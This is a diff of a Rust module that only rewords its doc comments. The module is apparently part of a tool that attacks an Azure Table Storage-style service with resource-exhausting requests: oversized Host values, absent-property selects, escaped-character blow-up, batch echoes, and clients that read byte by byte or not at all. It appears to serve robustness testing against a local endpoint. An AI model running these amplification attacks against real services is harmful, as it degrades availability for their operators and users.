@@ -1,4 +1,4 @@
-//! Requests whose responses are much larger than what they read.
+//! Attacks with requests whose responses are much larger than the data they read.
 
 use super::attacker::{Attacker, longest_texts};
 use super::scene::Scene;
@@ -6,21 +6,21 @@ use super::traffic::{self, AT_ONE_TIME, Ongoing, exchange_at_one_time, send_on_e
 use std::net::TcpStream;
 use std::thread;
 
-/// Entities of one page.
+/// The number of entities in one page.
 const PAGE: usize = 1000;
 const FULL: [(&str, &str); 2] = [("Accept", "application/json;odata=fullmetadata"), ("x-ms-version", "2019-02-02")];
-/// Later versions have no Atom.
+/// Later versions do not support Atom.
 const ATOM: [(&str, &str); 2] = [("Accept", "application/atom+xml"), ("x-ms-version", "2013-08-15")];
-/// The longest that fits the head of a request.
+/// The length of the longest host that fits in the head of a request.
 const LONG_HOST_BYTES: usize = 120_000;
 
-/// A name of the longest that DNS allows.
+/// Returns a host name of the maximum length in DNS.
 fn longest_name() -> String {
     let label = "h".repeat(62);
     [&label, &label, &label, &label[..61]].map(str::to_owned).join(".")
 }
 
-/// The same query in each format and with each of these hosts, as often as connections attack at one time.
+/// Returns the same query in each format and with each of these hosts, once for each connection of the attack.
 fn queries(attacker: &Attacker, path: &str, hosts: &[&str]) -> Vec<Vec<u8>> {
     let of_host = |host| {
         [FULL, ATOM]
@@ -35,19 +35,19 @@ fn exchange(attacker: &Attacker, requests: &[Vec<u8>]) {
     println!("{} KiB of responses: {statuses:?}", bytes / 1024);
 }
 
-/// Entities with the shortest keys and no properties.
+/// Creates entities with the shortest keys and no properties.
 pub(super) fn fill_with_tiny_entities(attacker: &Attacker) {
     let rows: Vec<_> = (0..PAGE).map(|number| format!("{number:03}")).collect();
     attacker.fill("tiny", "p", &rows);
 }
 
-/// Each of these characters of a key has nine bytes in an address, and every entity has two addresses.
+/// Creates entities with keys of characters that take nine bytes in an address; every entity has two addresses.
 pub(super) fn fill_with_long_keys(attacker: &Attacker) {
     let rows: Vec<_> = (0..PAGE).map(|number| format!("{number:03}{}", "\u{3042}".repeat(509))).collect();
     attacker.fill("keys", &"\u{3042}".repeat(512), &rows);
 }
 
-/// Entities of nearly 1 MiB, two bytes of whose size are six in a response.
+/// Creates entities of nearly 1 MiB: each two bytes of their size take six bytes in a response.
 fn fill_with_control_characters(attacker: &Attacker) {
     let properties = longest_texts("\\u0001");
     attacker.create_table("control");
@@ -59,7 +59,7 @@ fn fill_with_control_characters(attacker: &Attacker) {
     }
 }
 
-/// As many tables as a page lists.
+/// Creates as many tables as a page lists.
 fn create_tables(attacker: &Attacker) {
     const THREADS: usize = 4;
     thread::scope(|scope| {
@@ -76,40 +76,39 @@ fn create_tables(attacker: &Attacker) {
     });
 }
 
-/// Pages whose every entity has the longest host that the head of a request has room for.
+/// Reads pages whose entities each contain the longest host that fits in the head of a request.
 pub(super) fn read_with_a_long_host(attacker: &Attacker) {
     exchange(attacker, &queries(attacker, "/tiny", &[&"h".repeat(LONG_HOST_BYTES)]));
 }
 
-/// Pages whose every entity has the longest host that DNS allows, and keys that are escaped.
+/// Reads pages whose entities each contain the longest host that DNS allows, and escaped keys.
 pub(super) fn read_long_keys(attacker: &Attacker) {
     exchange(attacker, &queries(attacker, "/keys", &[&longest_name()]));
 }
 
-/// An address that names properties which no entity has.
+/// Returns an address that selects properties that no entity has.
 fn select_of_absent_properties() -> String {
     let names: Vec<_> = (0..250).map(|number| format!("A{number:03}{}", "x".repeat(246))).collect();
     format!("/tiny?$select={}", names.join(","))
 }
 
-/// Pages that say of many properties of each entity that it does not have them.
 pub(super) fn read_absent_properties(attacker: &Attacker) {
     exchange(attacker, &queries(attacker, &select_of_absent_properties(), &["127.0.0.1"]));
 }
 
-/// As [`read_absent_properties`], by clients that do not read.
+/// Like [`read_absent_properties`], with clients that do not read.
 pub(super) fn leave_pages_unread(attacker: &Attacker) -> Vec<TcpStream> {
     let query = attacker.account.head("GET", &select_of_absent_properties(), &FULL);
     send_on_each(&attacker.address, 2 * AT_ONE_TIME, query.repeat(4).as_bytes())
 }
 
-/// As [`read_long_keys`], by clients that read a byte at a time.
+/// Like [`read_long_keys`], with clients that read one byte at a time.
 pub(super) fn read_byte_by_byte(attacker: &Attacker) -> Ongoing {
     let query = attacker.account.head("GET", "/keys", &ATOM);
     traffic::read_byte_by_byte(send_on_each(&attacker.address, 2 * AT_ONE_TIME, query.repeat(4).as_bytes()))
 }
 
-/// A batch of inserts whose response has the entities in it.
+/// Returns a batch of inserts whose response contains the entities.
 fn echoing_batch(attacker: &Attacker, host: &str, partition: &str, operations: usize, properties: &str) -> Vec<u8> {
     let operation = |row: usize| {
         let head = "--c\r\nContent-Type: application/http\r\n\r\nPOST /tiny HTTP/1.1";
@@ -124,14 +123,14 @@ fn echoing_batch(attacker: &Attacker, host: &str, partition: &str, operations: u
     [attacker.account.head("POST", "/$batch", &headers).into_bytes(), body.into_bytes()].concat()
 }
 
-/// Batches of 22 KB whose every operation is answered with a long host.
+/// Sends batches of 22 KB whose response contains a long host for every operation.
 pub(super) fn echo_a_long_host(attacker: &Attacker) {
     let host = "h".repeat(LONG_HOST_BYTES);
     let batch = |number| echoing_batch(attacker, &host, &format!("q{number}"), 100, "");
     exchange(attacker, &(0..AT_ONE_TIME).map(batch).collect::<Vec<_>>());
 }
 
-/// Batches whose every character is two bytes in the request and six in the response, which nobody reads.
+/// Sends batches whose characters take two bytes in the request and six in the response, which is not read.
 pub(super) fn leave_growing_batches_unread(attacker: &Attacker) -> Vec<TcpStream> {
     let properties = format!(",{}", longest_texts("\u{e9}"));
     let batch = |number| echoing_batch(attacker, "127.0.0.1", &format!("q{number}"), 4, &properties);
